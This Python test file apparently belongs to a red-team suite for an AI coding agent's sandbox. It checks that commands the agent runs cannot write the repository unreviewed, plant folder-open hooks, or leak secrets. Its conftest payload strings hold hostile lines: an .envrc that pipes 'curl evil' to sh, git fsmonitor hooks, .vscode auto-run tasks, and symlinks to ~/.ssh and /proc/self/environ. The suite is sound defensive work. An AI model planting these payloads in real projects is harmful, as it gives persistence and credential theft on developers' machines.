"""What commands change comes back for review: through the tools, the validation and the CLI.

The red-team round's findings, each tried by its effect on real parts (bubblewrap, overlayfs,
git, pytest, ruff, make, the CLI with the scripted model) and each with a control: the same
payload run bare does do what the product stops.

- an allowed command (`ruff check --fix-only .`, `make -f - test < file`, a conftest) used to
  write the repository directly: now its changes are one proposed patch, written only when
  accepted;
- a contained test run created protected places (`.vscode/tasks.json`, `.envrc`, a nested
  `.git/config`): now blocked and said;
- the local validation's host-side copies were written and read through links a check left:
  now there are none;
- an allowed `git diff --no-index` read a file outside the repository: now it is not there;
- test runs left the repository dirty (bytecode, caches): now it stays as it was.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from tests.conftest import git, make_repo, make_tools
from tests.redteam.harness import Victim, smol, tool
from tests.support.containment import require_bwrap
from tests.support.scripted_model import ScriptedModel

from smol_instruments.base.config import Settings
from smol_instruments.safety.approval import AutoApprover

pytestmark = [pytest.mark.usefixtures("bwrap"), pytest.mark.timeout(600)]

VENV_BIN = Path(sys.executable).parent


@pytest.fixture
def bwrap() -> None:
    require_bwrap()


@pytest.fixture
def on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    """This environment's `python`, `pytest` and `ruff` first, as in a project's venv."""
    monkeypatch.setenv("PATH", f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}")


def bare(repo: Path, command: str, **env: str) -> subprocess.CompletedProcess[str]:
    """The control: `command` run in a copy of `repo`, with nothing in between."""
    copy = repo.parent / f"{repo.name}-bare"
    shutil.copytree(repo, copy, symlinks=True)
    environ = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    return subprocess.run(
        ["sh", "-c", command],
        cwd=copy,
        capture_output=True,
        text=True,
        env={**environ, "PATH": f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}", **env},
    )


def status(repo: Path) -> str:
    return git(repo, "status", "--porcelain", "--ignored", "--untracked-files=all")


@pytest.mark.usefixtures("on_path")
def test_a_fixing_linter_proposes_its_fix(repo: Path, settings: Settings) -> None:
    (repo / "app" / "calc.py").write_text("import os\n\n\ndef add(a, b):\n    return a - b\n")
    git(repo, "commit", "-qam", "an unused import")
    ctx, tools = make_tools(repo, settings)
    result = tools["run_cmd"](command="ruff check --fix-only --no-cache --isolated .")
    assert result.get("exit_code") == 0, result
    assert (repo / "app" / "calc.py").read_text().startswith("import os")  # not written
    assert status(repo) == ""
    patch = ctx.patches.require(result["patch_id"])
    assert [f.path for f in patch.files] == ["app/calc.py"]
    assert patch.summary == "Changes made by `ruff check --fix-only --no-cache --isolated .`"
    assert "nothing is written until the user accepts" in result["changes"]
    ctx.patches.accept(patch.id)  # the user accepts: now it is written
    assert not (repo / "app" / "calc.py").read_text().startswith("import os")
    fixed = bare(repo, "ruff check --fix-only --no-cache --isolated .")  # the control
    assert (
        fixed.returncode == 0
        and "import os" not in (repo.parent / "repo-bare" / "app" / "calc.py").read_text()
    )


def test_a_makefile_on_stdin_writes_nothing(repo: Path, settings: Settings) -> None:
    (repo / "rules.mk").write_text("test:\n\techo made > made.txt\n\techo x >> README.md\n")
    git(repo, "add", "rules.mk")
    git(repo, "commit", "-qm", "rules")
    ctx, tools = make_tools(repo, settings)
    result = tools["run_cmd"](command="make -f - test < rules.mk")
    assert result.get("exit_code") == 0, result
    assert status(repo) == ""
    patch = ctx.patches.require(result["patch_id"])
    assert sorted(f.path for f in patch.files) == ["README.md", "made.txt"]
    bare(repo, "make -f - test < rules.mk")  # the control
    assert (repo.parent / "repo-bare" / "made.txt").read_text() == "made\n"


CONFTEST_PROTECTED = """\
import os, subprocess

def pytest_sessionstart(session):
    os.makedirs(".vscode", exist_ok=True)
    open(".vscode/tasks.json", "w").write('{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}')
    os.makedirs(".smol-instruments", exist_ok=True)
    open(".smol-instruments/policy.toml", "w").write("allow everything")
    open(".envrc", "w").write("curl evil | sh")
    os.makedirs(".idea", exist_ok=True)
    open(".idea/workspace.xml", "w").write("<project/>")
    with open("vendor/.git/config", "a") as config:
        config.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
    subprocess.run(["git", "init", "-q", "plugins"])
    subprocess.run(["git", "-C", "plugins", "config", "core.fsmonitor", "touch /tmp/pwned"])
"""


@pytest.mark.usefixtures("on_path")
def test_a_test_run_cannot_plant_what_runs_when_the_folder_opens(
    repo: Path, settings: Settings
) -> None:
    make_repo(repo / "vendor", {"v.txt": "vendored\n"})
    (repo / "conftest.py").write_text(CONFTEST_PROTECTED)
    git(repo, "add", "conftest.py")
    git(repo, "commit", "-qm", "conftest")
    vendor_config = (repo / "vendor" / ".git" / "config").read_text()
    before = status(repo)
    _, tools = make_tools(repo, settings)
    result = tools["run_tests"](command="python -m pytest -q -p no:cacheprovider tests")
    assert "exit_code" in result, result
    for made in (".vscode", ".smol-instruments", ".envrc", ".idea", "plugins"):
        assert not (repo / made).exists(), made
    assert (repo / "vendor" / ".git" / "config").read_text() == vendor_config
    assert status(repo) == before
    assert "created .vscode/tasks.json" in result["blocked"]
    assert "changed vendor/.git/config" in result["blocked"]
    assert any(line.startswith("created plugins/.git/") for line in result["blocked"])
    assert "blocked" in result["changes"] and "patch_id" not in result
    control = bare(repo, "python -m pytest -q -p no:cacheprovider tests")
    assert control.returncode in (0, 1), control.stderr
    assert (repo.parent / "repo-bare" / ".vscode" / "tasks.json").exists()
    assert "fsmonitor" in (repo.parent / "repo-bare" / "vendor" / ".git" / "config").read_text()


def test_an_allowed_command_cannot_read_another_tree(
    repo: Path, settings: Settings, tmp_path: Path
) -> None:
    other = Path("/var/tmp") / f"smol-other-{os.getpid()}"
    other.mkdir(exist_ok=True)
    try:
        (other / "credentials").write_text("aws_secret_access_key = OTHER-TREE-SECRET\n")
        _, tools = make_tools(repo, settings)
        command = f"git diff --no-index {other}/credentials /dev/null"
        result = tools["run_cmd"](command=command)
        assert result.get("verdict") == "allow", result
        assert "OTHER-TREE-SECRET" not in json.dumps(result)
        assert "OTHER-TREE-SECRET" in bare(repo, command).stdout  # the control
    finally:
        shutil.rmtree(other, ignore_errors=True)


def test_an_approved_install_keeps_what_git_ignores(repo: Path, settings: Settings) -> None:
    (repo / ".gitignore").write_text("build/\n*.log\nnode_modules/\n")
    git(repo, "commit", "-qam", "ignore node_modules")
    ctx, tools = make_tools(repo, settings, AutoApprover())
    command = (
        "pip install --no-index no-such-package-xyz; mkdir -p node_modules/left-pad && "
        "echo 'module.exports = 1' > node_modules/left-pad/index.js && echo lock > deps.lock"
    )
    result = tools["run_cmd"](command=command)
    assert result["approval"] == "approved", result
    assert (repo / "node_modules" / "left-pad" / "index.js").read_text() == "module.exports = 1\n"
    assert not (repo / "deps.lock").exists()  # not ignored: proposed like any command's
    assert [f.path for f in ctx.patches.require(result["patch_id"]).files] == ["deps.lock"]
    assert "kept 1 file git ignores, as approved: node_modules" in result["changes"]
    # Allowed, not approved (the policy lets it run unasked): what git ignores is dropped.
    shutil.rmtree(repo / "node_modules")
    unasked = tools["run_cmd"](command="mkdir -p node_modules/x && echo 1 > node_modules/x/i.js")
    assert unasked["approval"] == "auto", unasked
    assert not (repo / "node_modules").exists()
    assert "discarded 1 file git ignores (node_modules)" in unasked["changes"]


def test_a_command_that_changed_too_many_files_proposes_none(
    repo: Path, settings: Settings
) -> None:
    ctx, tools = make_tools(repo, settings, AutoApprover())
    command = "mkdir -p out && for i in $(seq 1 201); do echo x > out/f$i.txt; done"
    result = tools["run_cmd"](command=command)
    assert result.get("exit_code") == 0, result
    assert "patch_id" not in result and ctx.patches.all() == []
    assert "201 files" in result["changes"] and "too many to propose" in result["changes"]
    assert not (repo / "out").exists()


# --- the validation copy ------------------------------------------------------------------

CONFTEST_LINKS = """\
import os, shutil

def pytest_sessionstart(session):
    home = os.path.expanduser("~")
    for place in ("../unpatched", "../tree", "/tmp/unpatched", os.path.join(home, "..", "link")):
        try:
            os.symlink(home, place)
        except OSError:
            pass
    shutil.rmtree("app", ignore_errors=True)
    os.symlink(os.path.join(home, ".ssh"), "app")
    os.symlink("/proc/self/environ", "environ.txt")
    with open(os.path.join(home, "marker"), "w") as marker:
        marker.write("written by a check")
"""


def test_a_check_cannot_aim_the_validation_at_the_home(tmp_path: Path) -> None:
    """The project's own tests check every proposal (SANDBOX_CHECK_TESTS); a conftest left
    links where the host-side copy used to write next, and swapped a tracked folder for a
    link to ~/.ssh (and our environment), and failed so that the run without the patch
    followed. Now nothing of ours writes or reads where a check wrote."""
    victim = Victim.create(tmp_path / "home")
    repo = make_repo(tmp_path / "repo")
    (repo / "conftest.py").write_text(CONFTEST_LINKS)
    git(repo, "add", "conftest.py")
    git(repo, "commit", "-qm", "conftest")
    before = status(repo)
    outputs = []
    for new in ("a + b", "b + a"):  # twice: the second compares with the remembered run
        result = tool(
            repo,
            victim,
            "propose_patch",
            {"path": "app/calc.py", "old_text": "a - b", "new_text": new},
            env={"PATH": f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}"},
        )
        outputs.append(result.stdout + result.stderr)
        data = json.loads(result.stdout)
        checks = data["validation"]["checks"]
        assert [c["command"] for c in checks][-1].endswith("-m pytest -q"), data
    harm = victim.own.harm("\n".join(outputs), environment=True)
    assert harm == [], harm
    assert not (tmp_path / "unpatched").exists() and not (tmp_path / "link").exists()
    assert status(repo) == before
    # The control: the same conftest, run bare with that home, does all of it.
    control = bare(repo, "python -m pytest -q -p no:cacheprovider", HOME=str(victim.home))
    assert control.returncode != 0
    assert (victim.home / "marker").exists()
    assert os.path.islink(repo.parent / "unpatched")


# --- the repository stays as it was -------------------------------------------------------

CACHING_TESTS = {
    "app/__init__.py": "",
    "app/calc.py": "def add(a, b):\n    return a + b\n",
    "tests/__init__.py": "",
    "tests/test_calc.py": (
        "import os\nfrom app.calc import add\n\n\n"
        "def test_add():\n    os.makedirs('.benchmarks', exist_ok=True)\n"
        "    open('.benchmarks/run.json', 'w').write('{}')\n    assert add(2, 3) == 5\n"
    ),
    ".gitignore": "",
}


def test_the_repository_stays_as_it_was_after_an_agent_runs_its_tests(tmp_path: Path) -> None:
    """`git status --porcelain --ignored` before and after a real `smol-instruments run`
    whose model runs the tests (pytest writes bytecode and its cache, the tests write
    .benchmarks): identical. Run bare, the same tests leave all of it behind."""
    victim = Victim.create(tmp_path / "home")
    repo = make_repo(tmp_path / "repo", CACHING_TESTS)
    before = status(repo)
    turns = [
        "Let me run the tests.\n```python\nprint(run_tests())\n```",
        '```python\nfinal_answer("the tests pass")\n```',
    ]
    with ScriptedModel(turns, strict=False) as model:
        result = smol(
            repo,
            victim,
            "run",
            "--repo",
            str(repo),
            "do the tests pass? one of the tests fails, I think",
            env={**model.env(), "PATH": f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}"},
        )
        sent = "\n".join(request.prompt_text() for request in model.requests)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "1 passed" in sent  # the tests did run
    assert status(repo) == before
    control = bare(repo, "python -m pytest -q")
    assert control.returncode == 0, control.stdout
    dirty = status(repo.parent / "repo-bare")
    assert "__pycache__" in dirty and ".pytest_cache" in dirty and ".benchmarks" in dirty
